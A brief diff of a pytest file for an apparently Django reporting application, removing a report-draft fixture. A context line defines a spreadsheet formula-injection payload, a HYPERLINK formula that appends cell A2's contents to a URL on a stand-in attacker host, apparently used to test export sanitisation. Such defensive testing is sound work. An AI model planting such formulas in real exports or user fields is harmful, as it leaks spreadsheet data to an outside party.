@@ -23,16 +23,6 @@ pytestmark = pytest.mark.django_db
 FORMULA = '=HYPERLINK("https://attacker.example/?"&A2,"Open")'
 
 
-@pytest.fixture
-def draft(report_cycle, reporting_officer_kenya):
-    return services.start_report(
-        acting_user=reporting_officer_kenya,
-        state=State.objects.get(iso3="KEN"),
-        cycle=report_cycle,
-        language="en",
-    )
-
-
 def answer(report, user, code, value, restricted=False):
     question = Question.objects.get(template=report.template, code=code)
     current = Answer.objects.filter(report=report, question=question).first()
